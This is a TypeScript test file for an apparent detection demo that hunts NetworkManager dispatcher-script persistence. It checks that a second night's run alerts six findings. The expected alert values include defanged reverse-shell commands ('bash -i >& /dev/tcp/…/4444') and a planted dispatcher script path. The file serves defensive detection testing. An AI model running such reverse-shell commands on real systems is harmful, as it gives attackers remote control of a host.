import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { describe, it } from 'node:test';

describe('npm run demo', () => {
  it('learns quietly on night 1 and alerts exactly the attacker’s findings on night 2', () => {
    const run = spawnSync('npm', ['run', '--silent', 'demo'], { cwd: new URL('..', import.meta.url).pathname, encoding: 'utf8', timeout: 120_000 });
    assert.equal(run.status, 0, run.stderr);
    const out = run.stdout;
    assert.match(out, /DEMO — recorded Elasticsearch responses/);
    const [night1, night2] = out.split('=== night-2').map((part) => part ?? '');
    const messages = (text: string) => [...text.matchAll(/\[email\] Subject: (.*)/g)].map((m) => m[1]);
    assert.deepEqual(messages(night1!), ['[nm-dispatcher-hunt] baseline initialised: 8 entries']);
    assert.deepEqual(messages(night2!), ['[nm-dispatcher-hunt] 6 new findings (dispatcher-child-process, dispatcher-script-write)']);
    const alerted = [...night2!.split('[slack]')[0]!.matchAll(/^ {2}(file\.path|process\.command_line): (.*)$/gm)].map((m) => m[2]).sort();
    // As the email shows them: defanged, so that no mail client links the attacker's host or script name.
    assert.deepEqual(alerted, [
      '/bin/bash /etc/NetworkManager/dispatcher.d/panix-dispatcher[.]sh eth0 up',
      '/etc/NetworkManager/dispatcher.d/panix-dispatcher[.]sh',
      '/etc/NetworkManager/dispatcher.d/panix-dispatcher[.]sh',
      "bash -c 'bash -i >& /dev/tcp/203[.]0[.]113[.]66/4444 0>&1'",
      "nohup setsid bash -c 'bash -i >& /dev/tcp/203[.]0[.]113[.]66/4444 0>&1'",
      "setsid bash -c 'bash -i >& /dev/tcp/203[.]0[.]113[.]66/4444 0>&1'",
    ]);
    assert.doesNotMatch(night2!, /99-vpn-routes.*\n\s+why new/, 'nothing the fleet already had is alerted');
    assert.match(out, /night 2 alerted 6 new findings/);
    assert.equal((out.match(/ alerted {2}/g) ?? []).length, 6, 'six alerted entries in the baseline table');
  });
});
